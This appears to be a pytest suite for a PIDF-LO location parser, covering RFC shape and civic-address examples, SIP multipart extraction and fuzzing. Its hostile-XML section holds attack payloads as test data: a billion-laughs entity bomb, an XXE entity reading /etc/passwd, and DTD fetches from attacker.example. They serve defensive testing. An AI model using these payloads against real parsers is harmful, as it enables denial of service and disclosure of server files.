"""Tests of intake.pidf_lo: RFC 4119/5491/5139/6442 examples, hostile XML, multipart, fuzzing."""

from __future__ import annotations

import base64
import dataclasses
import math
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from intake.errors import (
    IntakeError,
    PidfError,
    PidfMultipartError,
    PidfSyntaxError,
    PidfTooLarge,
    PidfUnsafeXml,
    PidfUnsupportedShape,
    PidfValueError,
)
from intake.pidf_lo import (
    MAX_ELEMENTS,
    MAX_PIDF_BYTES,
    MAX_SHAPES,
    MAX_VERTICES,
    PidfLocation,
    ShapeKind,
    extract_pidf_from_multipart,
    parse_pidf_lo,
)

if TYPE_CHECKING:
    from collections.abc import Callable

DATA = Path(__file__).parent / "data"
MULTIPART_TYPE = "multipart/mixed; boundary=boundary1"


def fixture(name: str) -> bytes:
    """The bytes of one file under tests/intake/data."""
    return (DATA / name).read_bytes()


def wrap(location_info: str, method: str | None = "GPS") -> str:
    """A PIDF-LO presence document around the given location-info content."""
    method_xml = "" if method is None else f"<gp:method>{method}</gp:method>"
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf"
    xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"
    xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"
    xmlns:gml="http://www.opengis.net/gml"
    xmlns:gs="http://www.opengis.net/pidflo/1.0"
    xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr"
    entity="pres:test@example.com">
  <dm:device id="d1">
    <gp:geopriv>
      <gp:location-info>{location_info}</gp:location-info>
      <gp:usage-rules/>
      {method_xml}
    </gp:geopriv>
  </dm:device>
</presence>"""


def circle(pos: str, radius: str = "10", uom: str = "urn:ogc:def:uom:EPSG::9001") -> str:
    """A gs:Circle element."""
    return (
        '<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326">'
        f'<gml:pos>{pos}</gml:pos><gs:radius uom="{uom}">{radius}</gs:radius></gs:Circle>'
    )


# --- RFC 5491 shapes --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "method", "expected"),
    [
        pytest.param(
            "rfc5491_point_2d.xml",
            "Wiremap",
            {
                "shape": "Point",
                "lat": -34.407,
                "lon": 150.883,
                "radius_m": None,
                "altitude_m": None,
            },
            id="point-2d",
        ),
        pytest.param(
            "rfc5491_point_3d.xml",
            "Wiremap",
            {
                "shape": "Point",
                "lat": -34.407,
                "lon": 150.883,
                "radius_m": None,
                "altitude_m": 24.8,
            },
            id="point-3d",
        ),
        pytest.param(
            "rfc5491_circle.xml",
            "OTDOA",
            {"shape": "Circle", "lat": 42.5463, "lon": -73.2512, "radius_m": 850.24},
            id="circle",
        ),
        pytest.param(
            "rfc5491_ellipse.xml",
            "Hybrid A-GPS",
            {
                "shape": "Ellipse",
                "lat": 42.5463,
                "lon": -73.2512,
                "radius_m": 1275.0,
                "semi_major_m": 1275.0,
                "semi_minor_m": 670.0,
                "orientation_deg": 43.2,
            },
            id="ellipse",
        ),
        pytest.param(
            "rfc5491_arcband.xml",
            "TA-NMR",
            {
                "shape": "ArcBand",
                "lat": -43.5723,
                "lon": 153.2176,
                "radius_m": 4148.0,
                "inner_radius_m": 3594.0,
                "outer_radius_m": 4148.0,
                "start_angle_deg": 20.0,
                "opening_angle_deg": 20.0,
            },
            id="arcband",
        ),
        pytest.param(
            "rfc5491_sphere.xml",
            "Hybrid A-GPS",
            {
                "shape": "Sphere",
                "lat": 42.5463,
                "lon": -73.2512,
                "radius_m": 850.24,
                "altitude_m": 26.3,
            },
            id="sphere",
        ),
        pytest.param(
            "rfc5491_ellipsoid.xml",
            "Hybrid A-GPS",
            {
                "shape": "Ellipsoid",
                "lat": 42.5463,
                "lon": -73.2512,
                "radius_m": 7.7156,
                "altitude_m": 26.3,
                "semi_major_m": 7.7156,
                "semi_minor_m": 3.31,
                "vertical_axis_m": 28.7,
                "orientation_deg": 90.0,
            },
            id="ellipsoid",
        ),
        pytest.param(
            "rfc4119_geo.xml",
            None,
            {
                "shape": "Point",
                "lat": 37 + 46 / 60 + 30 / 3600,
                "lon": -(122 + 25 / 60 + 10 / 3600),
                "radius_m": None,
                "altitude_m": None,
            },
            id="rfc4119-gml30-dms",
        ),
    ],
)
def test_rfc_shape_examples(name: str, method: str | None, expected: dict[str, object]) -> None:
    """Each RFC example shape gives its kind, reference point, radius, fields and method."""
    location = parse_pidf_lo(fixture(name))
    assert location.method == method
    assert location.civic is None
    assert len(location.shapes) == 1
    assert location.shapes[0].kind == expected["shape"]
    assert location.to_json_dict()["shapes"] == [pytest.approx(expected)]


@pytest.mark.parametrize("name", ["rfc5491_polygon.xml", "rfc5491_polygon_poslist.xml"])
def test_rfc_polygon_centroid_and_radius(name: str) -> None:
    """The RFC 5491 polygon: centroid within its bounds, radius to the farthest vertex, vertices."""
    (shape,) = parse_pidf_lo(fixture(name)).shapes
    assert shape.kind is ShapeKind.POLYGON
    assert len(shape.vertices) == 5  # the closing repeat is dropped
    assert shape.vertices[0] == (43.311, -73.422)
    assert 43.111 < shape.lat < 43.411
    assert -73.422 < shape.lon < -73.122
    assert shape.radius_m == pytest.approx(17244.16, rel=1e-4)


def test_pos_and_poslist_polygons_agree() -> None:
    """The gml:pos and gml:posList spellings of one polygon give the same shape."""
    a = parse_pidf_lo(fixture("rfc5491_polygon.xml"))
    b = parse_pidf_lo(fixture("rfc5491_polygon_poslist.xml"))
    assert a.shapes == b.shapes


def test_square_polygon_centroid_is_its_centre() -> None:
    """A square of ±0.01° around Kadıköy has its centre as centroid and the corner distance."""
    ring = " ".join(
        f"<gml:pos>{lat} {lon}</gml:pos>"
        for lat, lon in [
            (40.98, 29.01),
            (40.98, 29.03),
            (41.0, 29.03),
            (41.0, 29.01),
            (40.98, 29.01),
        ]
    )
    doc = wrap(
        '<gml:Polygon srsName="urn:ogc:def:crs:EPSG::4326"><gml:exterior><gml:LinearRing>'
        f"{ring}</gml:LinearRing></gml:exterior></gml:Polygon>"
    )
    (shape,) = parse_pidf_lo(doc).shapes
    assert shape.lat == pytest.approx(40.99, abs=1e-4)
    assert shape.lon == pytest.approx(29.02, abs=1e-4)
    expected = 6_371_008.8 * math.radians(math.hypot(0.01, 0.01 * math.cos(math.radians(40.99))))
    assert shape.radius_m == pytest.approx(expected, rel=2e-3)


def test_polygon_across_the_antimeridian() -> None:
    """A polygon across ±180° keeps its centroid next to the line, not at longitude 0."""
    ring = (
        "<gml:posList>-17.0 179.9 -17.0 -179.9 -16.9 -179.9 -16.9 179.9 -17.0 179.9</gml:posList>"
    )
    doc = wrap(
        '<gml:Polygon srsName="urn:ogc:def:crs:EPSG::4326"><gml:exterior><gml:LinearRing>'
        f"{ring}</gml:LinearRing></gml:exterior></gml:Polygon>"
    )
    (shape,) = parse_pidf_lo(doc).shapes
    assert abs(shape.lon) == pytest.approx(180.0, abs=1e-6)
    assert shape.radius_m is not None
    assert shape.radius_m < 20_000


def test_prism_keeps_base_height_and_altitude() -> None:
    """The RFC 5491 prism: centroid of its base, height and the base's altitude."""
    (shape,) = parse_pidf_lo(fixture("rfc5491_prism.xml")).shapes
    assert shape.kind is ShapeKind.PRISM
    assert shape.height_m == pytest.approx(2.4)
    assert shape.altitude_m == pytest.approx(36.6)
    assert shape.lat == pytest.approx(42.606844, abs=1e-6)
    assert shape.lon == pytest.approx(-73.298157, abs=1e-6)
    assert set(shape.to_json_dict()) == {
        "shape",
        "lat",
        "lon",
        "radius_m",
        "altitude_m",
        "height_m",
        "vertices",
    }


@pytest.mark.parametrize(
    "srs",
    [
        "urn:ogc:def:crs:EPSG::4326",
        "urn:ogc:def:crs:EPSG:6.6:4326",
        "http://www.opengis.net/def/crs/EPSG/0/4326",
        "EPSG:4326",
    ],
)
def test_crs_spellings(srs: str) -> None:
    """Every common spelling of EPSG 4326 is read as latitude, longitude."""
    doc = wrap(f'<gml:Point srsName="{srs}"><gml:pos>41.0082 28.9784</gml:pos></gml:Point>')
    (shape,) = parse_pidf_lo(doc).shapes
    assert (shape.lat, shape.lon) == (41.0082, 28.9784)


def test_missing_srs_and_uom_default_to_4326_and_metres() -> None:
    """Without srsName and uom the RFC 5491 defaults (EPSG 4326, metres) are assumed."""
    doc = wrap("<gs:Circle><gml:pos>41.0 29.0</gml:pos><gs:radius>25</gs:radius></gs:Circle>", None)
    location = parse_pidf_lo(doc)
    assert location.shapes[0].radius_m == 25.0
    assert location.method is None


def test_several_shapes_in_document_order() -> None:
    """Shapes from every location-info are returned in document order."""
    doc = wrap(circle("41.0 29.0") + "<gml:Point><gml:pos>40.0 30.0</gml:pos></gml:Point>")
    kinds = [s.kind for s in parse_pidf_lo(doc).shapes]
    assert kinds == [ShapeKind.CIRCLE, ShapeKind.POINT]


def test_document_without_location_is_empty() -> None:
    """A presence document without geopriv gives no shapes, no civic address, no method."""
    doc = '<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@example.com"/>'
    assert parse_pidf_lo(doc) == PidfLocation()
    assert parse_pidf_lo(doc).to_json_dict() == {"shapes": [], "civic": None, "method": None}


def test_location_is_frozen() -> None:
    """PidfLocation and its shapes are immutable values."""
    location = parse_pidf_lo(fixture("rfc5491_circle.xml"))
    with pytest.raises(dataclasses.FrozenInstanceError):
        location.method = "x"  # type: ignore[misc]


# --- civic ------------------------------------------------------------------------------------


def test_rfc5139_civic_example_trimmed() -> None:
    """The RFC 5139 example: every element, outer whitespace trimmed, method Manual."""
    location = parse_pidf_lo(fixture("rfc5139_civic.xml"))
    assert location.shapes == ()
    assert location.method == "Manual"
    assert location.civic == {
        "country": "AU",
        "A1": "NSW",
        "A3": "Wollongong",
        "A4": "North Wollongong",
        "RD": "Flinders",
        "STS": "Street",
        "RDBR": "Campbell Street",
        "LMK": "Gilligan's Island",
        "LOC": "Corner",
        "NAM": "Video Rental Store",
        "PC": "2500",
        "ROOM": "Westerns and Classics",
        "PLC": "store",
        "POBOX": "Private Box 15",
    }


def test_rfc4119_civic_location_namespace() -> None:
    """RFC 4119's cl:civicAddress (civicLoc namespace) is read like RFC 5139's."""
    civic = parse_pidf_lo(fixture("rfc4119_civic.xml")).civic
    assert civic == {
        "country": "US",
        "A1": "New York",
        "A3": "New York",
        "A6": "Broadway",
        "HNO": "123",
        "LOC": "Suite 75",
        "PC": "10027-0401",
    }


def test_turkish_rtl_and_emoji_civic_values_are_kept_as_given() -> None:
    """Turkish letters, Arabic (right-to-left) and emoji are kept byte for byte; JSON too."""
    location = parse_pidf_lo(fixture("tr_civic_point.xml"))
    assert location.civic is not None
    assert location.civic["A1"] == "İstanbul"
    assert location.civic["A2"] == "Kadıköy"
    assert location.civic["NAM"] == "مطعم 🚑 Çiğdem"
    out = location.to_json_dict()
    assert out["civic"] == dict(location.civic)
    assert out["shapes"] == [
        {"shape": "Circle", "lat": 40.99043, "lon": 29.02935, "radius_m": 35.0}
    ]


def test_civic_markup_and_bidi_controls_are_kept_as_text() -> None:
    """Escaped HTML and a bidi override in a civic value are kept as text, never interpreted."""
    doc = wrap(
        "<ca:civicAddress><ca:NAM>&lt;script&gt;alert(1)&lt;/script&gt;</ca:NAM>"
        "<ca:LOC>\u202eevil</ca:LOC><ca:HNO>  </ca:HNO><ca:LOC>second</ca:LOC></ca:civicAddress>"
    )
    civic = parse_pidf_lo(doc).civic
    assert civic == {"NAM": "<script>alert(1)</script>", "LOC": "\u202eevil"}


def test_civic_extension_element_keyed_by_namespace() -> None:
    """An RFC 6848 extension element keeps its namespace in its key."""
    doc = wrap(
        '<ca:civicAddress xmlns:ext="urn:example:ext"><ca:country>TR</ca:country>'
        "<ext:BOLGE>Marmara</ext:BOLGE></ca:civicAddress>"
    )
    assert parse_pidf_lo(doc).civic == {"country": "TR", "{urn:example:ext}BOLGE": "Marmara"}


# --- multipart --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content_id",
    [
        "<cid:target123@atlanta.example.com>",
        "cid:target123@atlanta.example.com",
        "cid:target123%40atlanta.example.com",
        "target123@atlanta.example.com",
        None,
    ],
)
def test_rfc6442_multipart_body(content_id: str | None) -> None:
    """The PIDF part of an RFC 6442 INVITE body is found by its Content-ID in every spelling."""
    pidf = extract_pidf_from_multipart(fixture("rfc6442_multipart.bin"), MULTIPART_TYPE, content_id)
    location = parse_pidf_lo(pidf)
    assert location.method == "802.11"
    assert [(s.kind, s.lat, s.lon) for s in location.shapes] == [
        (ShapeKind.POINT, 32.86726, -97.16054)
    ]


def test_multipart_with_lf_line_ends_and_quoted_boundary() -> None:
    """Bare LF line ends and a quoted boundary parameter are accepted."""
    body = fixture("rfc6442_multipart.bin").replace(b"\r\n", b"\n")
    pidf = extract_pidf_from_multipart(
        body, 'Multipart/Mixed; boundary="boundary1"', "<cid:target123@atlanta.example.com>"
    )
    assert parse_pidf_lo(pidf).shapes[0].lat == 32.86726


def test_multipart_base64_part() -> None:
    """A base64 Content-Transfer-Encoding part is decoded."""
    document = fixture("rfc5491_circle.xml")
    body = (
        b"--b\r\nContent-Type: application/sdp\r\n\r\nv=0\r\n"
        b"--b\r\nContent-Type: application/pidf+xml\r\nContent-ID: <loc@x>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(document)
        + b"\r\n--b--\r\n"
    )
    assert extract_pidf_from_multipart(body, "multipart/mixed; boundary=b", "cid:loc@x") == document


def test_single_part_pidf_body_is_returned_as_is() -> None:
    """A SIP body that is itself application/pidf+xml needs no extraction."""
    document = fixture("rfc5491_circle.xml")
    assert extract_pidf_from_multipart(document, "application/pidf+xml", None) == document


@pytest.mark.parametrize(
    ("body", "content_type", "content_id"),
    [
        pytest.param(b"x", "text/plain", None, id="not-multipart"),
        pytest.param(b"x", "multipart/mixed", None, id="no-boundary"),
        pytest.param(b"x", "multipart/mixed; boundary=" + "b" * 71, None, id="long-boundary"),
        pytest.param(b"no delimiter here", MULTIPART_TYPE, None, id="boundary-absent"),
        pytest.param(
            b"--boundary1\r\nContent-Type: application/sdp\r\n\r\nv=0\r\n--boundary1--\r\n",
            MULTIPART_TYPE,
            None,
            id="no-pidf-part",
        ),
        pytest.param(
            b"--boundary1\r\nContent-Type: application/pidf+xml\r\n\r\n<x/>\r\n",
            MULTIPART_TYPE,
            "cid:other@x",
            id="unclosed-and-no-such-cid",
        ),
        pytest.param(
            b"--boundary1\r\nContent-Type: application/sdp\r\nContent-ID: <a@x>\r\n\r\nv=0\r\n"
            b"--boundary1--\r\n",
            MULTIPART_TYPE,
            "cid:a@x",
            id="cid-points-at-sdp",
        ),
        pytest.param(
            b"--boundary1\r\nnot a header\r\n\r\n<x/>\r\n--boundary1--\r\n",
            MULTIPART_TYPE,
            None,
            id="bad-part-header",
        ),
        pytest.param(
            b"--boundary1\r\nContent-Type: application/pidf+xml\r\n"
            b"Content-Transfer-Encoding: quoted-printable\r\n\r\n<x/>\r\n--boundary1--\r\n",
            MULTIPART_TYPE,
            None,
            id="quoted-printable",
        ),
        pytest.param(
            b"".join(b"--boundary1\r\n\r\nx\r\n" for _ in range(20)) + b"--boundary1--",
            MULTIPART_TYPE,
            None,
            id="too-many-parts",
        ),
    ],
)
def test_multipart_rejections(body: bytes, content_type: str, content_id: str | None) -> None:
    """Each malformed body or missing part is a PidfMultipartError with the reason."""
    with pytest.raises(PidfMultipartError):
        extract_pidf_from_multipart(body, content_type, content_id)


def test_multipart_too_large() -> None:
    """A SIP body over the limit is refused before it is searched."""
    with pytest.raises(PidfTooLarge):
        extract_pidf_from_multipart(b"x" * 300_000, MULTIPART_TYPE, None)


# --- hostile XML ------------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<presence xmlns="urn:ietf:params:xml:ns:pidf"
    xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"
    xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr" entity="pres:a@example.com">
 <tuple id="t"><status><gp:geopriv><gp:location-info>
  <ca:civicAddress><ca:NAM>&lol9;</ca:NAM></ca:civicAddress>
 </gp:location-info></gp:geopriv></status></tuple>
</presence>"""

XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@example.com">&xxe;</presence>"""

XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@example.com"/>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE presence SYSTEM "http://attacker.example/presence.dtd">
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@example.com"/>"""


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(XXE_FILE, id="xxe-file"),
        pytest.param(XXE_PARAMETER, id="xxe-parameter-entity"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(BILLION_LAUGHS.encode("utf-16"), id="billion-laughs-utf16"),
    ],
)
def test_dtd_documents_are_refused_before_any_entity(document: str | bytes) -> None:
    """Billion laughs and XXE need a DOCTYPE: refused as PidfUnsafeXml(construct="dtd")."""
    with pytest.raises(PidfUnsafeXml) as caught:
        parse_pidf_lo(document)
    assert caught.value.construct == "dtd"
    assert "passwd" not in str(caught.value)
    assert "attacker" not in str(caught.value)


@pytest.mark.parametrize(
    ("document", "error"),
    [
        pytest.param(b"", PidfSyntaxError, id="empty"),
        pytest.param(b"<presence", PidfSyntaxError, id="truncated"),
        pytest.param(b"\xff\xfe\x00garbage", PidfSyntaxError, id="binary"),
        pytest.param(b"<a/>", PidfSyntaxError, id="not-presence"),
        pytest.param(
            b'<presence xmlns="urn:ietf:params:xml:ns:pidf">&undefined;</presence>',
            PidfSyntaxError,
            id="undefined-entity",
        ),
        pytest.param(
            wrap("<ca:civicAddress><ca:NAM>a&#1;b</ca:NAM></ca:civicAddress>"),
            PidfSyntaxError,
            id="control-character-reference",
        ),
        pytest.param(
            wrap("<ca:civicAddress><ca:NAM>a\x07b</ca:NAM></ca:civicAddress>"),
            PidfSyntaxError,
            id="raw-control-character",
        ),
        pytest.param(wrap("<!--" + "x" * MAX_PIDF_BYTES + "-->"), PidfTooLarge, id="huge-document"),
        pytest.param(wrap("<x/>" * (MAX_ELEMENTS + 1)), PidfTooLarge, id="too-many-elements"),
        pytest.param(wrap(circle("41 29") * (MAX_SHAPES + 1)), PidfTooLarge, id="too-many-shapes"),
        pytest.param(
            wrap(
                "<gml:Polygon><gml:exterior><gml:LinearRing><gml:posList>"
                + " ".join(f"41.{i:04d} 29.{i:04d}" for i in range(MAX_VERTICES + 2))
                + "</gml:posList></gml:LinearRing></gml:exterior></gml:Polygon>"
            ),
            PidfTooLarge,
            id="too-many-vertices",
        ),
        pytest.param(
            wrap(f"<ca:civicAddress><ca:NAM>{'x' * 2000}</ca:NAM></ca:civicAddress>"),
            PidfTooLarge,
            id="long-civic-value",
        ),
        pytest.param(
            wrap("<ca:civicAddress>" + "<ca:LOC>x</ca:LOC>" * 65 + "</ca:civicAddress>"),
            PidfTooLarge,
            id="too-many-civic-elements",
        ),
    ],
)
def test_malformed_and_oversized_documents(document: str | bytes, error: type[PidfError]) -> None:
    """Broken or oversized XML is refused with its documented error."""
    with pytest.raises(error):
        parse_pidf_lo(document)


def test_deep_nesting_within_the_size_limit_is_bounded() -> None:
    """Thousands of nested elements are refused by the element limit, without recursion errors."""
    depth = 5000
    document = wrap("<a>" * depth + "</a>" * depth)
    with pytest.raises(PidfTooLarge):
        parse_pidf_lo(document)


# --- value rules ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("location_info", "error", "field", "secret"),
    [
        pytest.param(circle("91.123456 29.0"), PidfValueError, "gml:pos", "91.123456", id="lat"),
        pytest.param(circle("41.0 -180.654321"), PidfValueError, "gml:pos", "180.654321", id="lon"),
        pytest.param(circle("150.883 -34.407"), PidfValueError, "gml:pos", None, id="swapped"),
        pytest.param(circle("NaN 29"), PidfValueError, "gml:pos", None, id="nan"),
        pytest.param(circle("INF 29"), PidfValueError, "gml:pos", None, id="inf"),
        pytest.param(circle("1e999 29"), PidfValueError, "gml:pos", None, id="overflow"),
        pytest.param(circle("41"), PidfValueError, "gml:pos", None, id="one-number"),
        pytest.param(circle("41 29 10 5"), PidfValueError, "gml:pos", None, id="four-numbers"),
        pytest.param(circle("41 29", radius="-5"), PidfValueError, "gs:radius", None, id="neg-r"),
        pytest.param(circle("41 29", radius="4e7"), PidfValueError, "gs:radius", None, id="big-r"),
        pytest.param(
            '<gml:Point srsName="urn:ogc:def:crs:EPSG::4979"><gml:pos>41 29</gml:pos></gml:Point>',
            PidfValueError,
            "gml:pos",
            None,
            id="3d-crs-2d-pos",
        ),
        pytest.param(
            '<gml:Point srsName="urn:ogc:def:crs:EPSG::4979"><gml:pos>41 29 999999</gml:pos>'
            "</gml:Point>",
            PidfValueError,
            "gml:pos",
            None,
            id="altitude",
        ),
        pytest.param(
            "<gs:Circle><gml:pos>41 29</gml:pos></gs:Circle>",
            PidfValueError,
            "gs:radius",
            None,
            id="circle-without-radius",
        ),
        pytest.param(
            "<gs:Circle><gs:radius>5</gs:radius></gs:Circle>",
            PidfValueError,
            "gml:pos",
            None,
            id="circle-without-centre",
        ),
        pytest.param(
            "<gs:ArcBand><gml:pos>41 29</gml:pos><gs:innerRadius>50</gs:innerRadius>"
            "<gs:outerRadius>40</gs:outerRadius><gs:startAngle>0</gs:startAngle>"
            "<gs:openingAngle>90</gs:openingAngle></gs:ArcBand>",
            PidfValueError,
            "gs:innerRadius",
            None,
            id="arcband-inner-beyond-outer",
        ),
        pytest.param(
            "<gs:Ellipse><gml:pos>41 29</gml:pos><gs:semiMajorAxis>5</gs:semiMajorAxis>"
            "<gs:semiMinorAxis>3</gs:semiMinorAxis><gs:orientation>400</gs:orientation>"
            "</gs:Ellipse>",
            PidfValueError,
            "gs:orientation",
            None,
            id="orientation-400",
        ),
        pytest.param(
            "<gml:Polygon><gml:exterior><gml:LinearRing><gml:posList>41 29 41.1 29 41 29"
            "</gml:posList></gml:LinearRing></gml:exterior></gml:Polygon>",
            PidfValueError,
            "gml:LinearRing",
            None,
            id="polygon-two-vertices",
        ),
        pytest.param(
            "<gml:Polygon><gml:exterior><gml:LinearRing><gml:posList>41 29 41.1 29 41"
            "</gml:posList></gml:LinearRing></gml:exterior></gml:Polygon>",
            PidfValueError,
            "gml:posList",
            None,
            id="poslist-odd",
        ),
        pytest.param(
            "<gml:Polygon/>", PidfValueError, "gml:exterior", None, id="polygon-without-ring"
        ),
        pytest.param("<gs:Prism/>", PidfValueError, "gs:base", None, id="prism-without-base"),
        pytest.param(
            "<gml:Point><gml:coordinates>37:75:30N 122:25:10W</gml:coordinates></gml:Point>",
            PidfValueError,
            "gml:coordinates",
            None,
            id="dms-minutes-75",
        ),
    ],
)
def test_value_rules(
    location_info: str, error: type[PidfError], field: str, secret: str | None
) -> None:
    """Impossible positions and incomplete shapes name the element and never echo its value."""
    with pytest.raises(error) as caught:
        parse_pidf_lo(wrap(location_info))
    assert isinstance(caught.value, PidfValueError)
    assert caught.value.field == field
    if secret is not None:
        assert secret not in str(caught.value)


@pytest.mark.parametrize(
    "location_info",
    [
        pytest.param(circle("41 29", uom="urn:ogc:def:uom:EPSG::9002"), id="feet"),
        pytest.param(
            '<gml:Point srsName="urn:ogc:def:crs:EPSG::3857"><gml:pos>1 2</gml:pos></gml:Point>',
            id="web-mercator",
        ),
        pytest.param(
            "<gml:LineString><gml:posList>1 2 3 4</gml:posList></gml:LineString>", id="line"
        ),
        pytest.param(
            "<gml:Point><gml:coordinates>37.775,-122.419</gml:coordinates></gml:Point>",
            id="decimal-coordinates-ambiguous",
        ),
        pytest.param(
            "<gml:Point><gml:coordinates>37:46:30N 12:25:10S</gml:coordinates></gml:Point>",
            id="two-latitudes",
        ),
    ],
)
def test_unsupported_shapes_and_units(location_info: str) -> None:
    """Units, CRSs, shapes and coordinate forms outside the documented set are refused."""
    with pytest.raises(PidfUnsupportedShape):
        parse_pidf_lo(wrap(location_info))


def test_str_with_a_latin1_declaration_is_decoded() -> None:
    """A str document keeps its characters whatever its encoding declaration says."""
    document = wrap("<ca:civicAddress><ca:A2>Üsküdar</ca:A2></ca:civicAddress>").replace(
        'encoding="UTF-8"', 'encoding="ISO-8859-1"'
    )
    assert parse_pidf_lo(document.encode("latin-1")).civic == {"A2": "Üsküdar"}


# --- properties -------------------------------------------------------------------------------


def _outcome_is_documented(call: Callable[[], object]) -> None:
    try:
        result = call()
    except IntakeError:
        return
    assert isinstance(result, PidfLocation | bytes)
    if isinstance(result, PidfLocation):
        for shape in result.to_json_dict()["shapes"]:  # type: ignore[attr-defined]
            assert -90 <= shape["lat"] <= 90
            assert -180 <= shape["lon"] <= 180


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000))
def test_any_bytes_give_a_location_or_a_documented_error(data: bytes) -> None:
    """parse_pidf_lo on any bytes returns a PidfLocation or raises an IntakeError, nothing else."""
    _outcome_is_documented(lambda: parse_pidf_lo(data))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=1000))
def test_any_text_gives_a_location_or_a_documented_error(text: str) -> None:
    """parse_pidf_lo on any str returns a PidfLocation or raises an IntakeError, nothing else."""
    _outcome_is_documented(lambda: parse_pidf_lo(text))


_NUMBER = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.integers(-400, 400).map(str),
    st.sampled_from(["", "-", "1e5", "0x10", "٣", "1,5", "NaN", "+.5"]),
)
_SHAPE = st.sampled_from(
    ["gml:Point", "gs:Circle", "gs:Ellipse", "gs:ArcBand", "gs:Sphere", "gs:Ellipsoid", "gs:Zz"]
)
_FIELD = st.sampled_from(
    [
        "gs:radius",
        "gs:semiMajorAxis",
        "gs:semiMinorAxis",
        "gs:orientation",
        "gs:innerRadius",
        "gs:outerRadius",
        "gs:startAngle",
        "gs:openingAngle",
        "gs:verticalAxis",
    ]
)


@settings(max_examples=300, deadline=None)
@given(
    _SHAPE,
    st.lists(_NUMBER, min_size=0, max_size=4),
    st.lists(st.tuples(_FIELD, _NUMBER), max_size=6),
    st.sampled_from(["", ' srsName="urn:ogc:def:crs:EPSG::4979"', ' srsName="bogus"']),
)
def test_structured_shapes_give_a_location_or_a_documented_error(
    shape: str, pos: list[str], fields: list[tuple[str, str]], srs: str
) -> None:
    """Shapes built from real element names and odd numbers stay value-or-documented-error."""
    body = "".join(f"<{name}>{value}</{name}>" for name, value in fields)
    document = wrap(f"<{shape}{srs}><gml:pos>{' '.join(pos)}</gml:pos>{body}</{shape}>")
    _outcome_is_documented(lambda: parse_pidf_lo(document))


@settings(max_examples=200, deadline=None)
@given(
    st.binary(max_size=1500),
    st.one_of(
        st.text(max_size=60),
        st.sampled_from([MULTIPART_TYPE, "multipart/mixed; boundary=b", "application/pidf+xml"]),
    ),
    st.one_of(st.none(), st.text(max_size=30)),
)
def test_any_multipart_gives_bytes_or_a_documented_error(
    body: bytes, content_type: str, content_id: str | None
) -> None:
    """extract_pidf_from_multipart on any input returns bytes or raises an IntakeError."""
    _outcome_is_documented(lambda: extract_pidf_from_multipart(body, content_type, content_id))


@settings(max_examples=100, deadline=None)
@given(st.lists(st.binary(max_size=80), max_size=5), st.booleans())
def test_structured_multiparts_give_bytes_or_a_documented_error(
    parts: list[bytes], close: bool
) -> None:
    """Bodies with real delimiters and arbitrary part bytes stay value-or-documented-error."""
    body = b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + (
        b"--b--\r\n" if close else b""
    )
    _outcome_is_documented(
        lambda: extract_pidf_from_multipart(body, "multipart/mixed; boundary=b", None)
    )
